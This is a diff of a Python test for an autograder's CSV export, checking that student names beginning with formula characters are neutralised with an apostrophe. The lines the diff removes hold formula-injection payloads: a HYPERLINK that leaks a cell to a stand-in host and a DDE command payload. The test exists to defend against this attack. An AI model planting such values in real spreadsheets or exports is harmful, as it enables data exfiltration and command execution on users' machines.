@@ -4,55 +4,42 @@ honest students in the same batch keep full marks."""
 import csv
 import io
 import json
-import shutil
 
-import yaml
-
-from helpers import QUESTIONS, SUBMISSIONS, run_cli
+from helpers import QUESTIONS
+from hostile_names import CSV_NAMES
 
 from autograder.safetext import csv_cell
 
-HOSTILE = {
-    "submission_1": '=HYPERLINK("http://x.example/?leak="&A1, "click")',
-    "submission_2": "+cmd|' /C calc'!A0",
-    "submission_3": "-2+3",
-    "submission_4": "@SUM(A1:A9)",
-    "submission_5": "\t=1+1",
-    "submission_6": "\r=1+1",
-}
 HONEST = "Ada Lovelace"
 FULL = {"softmax": "6", "attention": "6", "mask": "6", "split_heads": "5", "multi_head": "6",
         "block": "6"}
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
-def test_formula_names_are_neutralised_in_grades_csv(tmp_path):
-    export = tmp_path / "export"
-    names = {**HOSTILE, "submission_7": HONEST}
-    for sub in names:
-        (export / sub).mkdir(parents=True)
-        shutil.copy(SUBMISSIONS / "correct" / "reference_style.py", export / sub / "attention.py")
-    (export / "submission_metadata.yml").write_text(yaml.safe_dump(
-        {sub: {":submitters": [{":name": name}]} for sub, name in names.items()}))
-    out = tmp_path / "out"
-    r = run_cli("grade", "-a", "attention", str(export), "--out", str(out), "--jobs", "2",
-                timeout=900)
-    assert r.returncode == 0, r.stderr[-3000:]
+def test_formula_names_are_neutralised_in_grades_csv(hostile_names):
+    export, out = hostile_names["class"], hostile_names["out"]   # graded once, with others
+    names = CSV_NAMES
+    assert names["submission_7"] == HONEST
 
     # Read as bytes: universal newlines would turn a CR inside a cell into LF.
     rows = list(csv.reader(io.StringIO((out / "grades.csv").read_bytes().decode("utf-8"),
                                        newline="")))
     assert rows[0] == ["student", "file", *QUESTIONS, "total", "max_score", "status", "error"]
     by_file = {row[1]: row for row in rows[1:]}
-    assert len(by_file) == len(names)
+    assert len(by_file) == len(rows) - 1 == hostile_names["students"]
     for sub, name in names.items():
         path = str(export / sub / "attention.py")
         shown = name if sub == "submission_7" else "'" + name
         assert by_file[path] == [shown, path, *[FULL[q] for q in QUESTIONS], "35", "35",
                                  "graded", ""]
+    # No cell of any row (other students' names, error messages) can start a formula.
+    for row in rows[1:]:
+        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
     # The JSON keeps the names as they are: only the spreadsheet needs the apostrophe.
     data = json.loads((out / "grades.json").read_text())
-    assert sorted(s["student"] for s in data["submissions"]) == sorted(names.values())
-    assert all(s["score"] == 35 for s in data["submissions"])
+    rows_json = {s["student"]: s for s in data["submissions"]}
+    assert set(names.values()) <= set(rows_json)
+    assert all(rows_json[name]["score"] == 35 for name in names.values())
 
 
 def test_numbers_stay_numbers_and_text_is_neutralised():
